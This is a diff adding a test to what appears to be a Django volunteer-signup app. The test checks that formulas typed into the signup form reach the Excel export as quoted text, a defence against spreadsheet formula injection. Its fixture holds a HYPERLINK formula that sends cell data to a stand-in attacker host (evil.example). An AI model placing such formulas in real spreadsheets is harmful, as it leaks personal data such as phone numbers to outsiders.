@@ -108,6 +108,23 @@ def test_list_filters_and_excel_export(client_for, facilitator_a, make_volunteer
     assert AuditEntry.objects.filter(action="volunteer.export").exists()
 
 
+def test_a_formula_typed_into_the_signup_reaches_the_export_as_text(client, client_for, facilitator_a,
+                                                                   partnership_a):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?"&C2&D2,"Klik")'
+    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
+    response = client.post(url, _signup_data(first_name=formula, last_name="@SUM(1+1)", phone="+4520202020"))
+    assert response.status_code == 302
+    export = client_for(facilitator_a).get(reverse("volunteers:export"))
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    first, last, phone = sheet["A2"], sheet["B2"], sheet["D2"]
+    assert first.data_type == "s" and first.value == formula and first.quotePrefix
+    assert last.data_type == "s" and last.value == "@SUM(1+1)" and last.quotePrefix
+    assert phone.value == "+4520202020" and phone.data_type == "s"
+    assert sheet["A1"].data_type == "s" and not sheet["A1"].quotePrefix  # ordinary text is left alone
+
+
 def test_onboard_then_assign_refusal_explains_missing_child_record(client_for, facilitator_a, make_volunteer,
                                                                   make_task, partnership_a):
     checklist = {i.kind: i for i in services.ensure_checklist(partnership_a)}
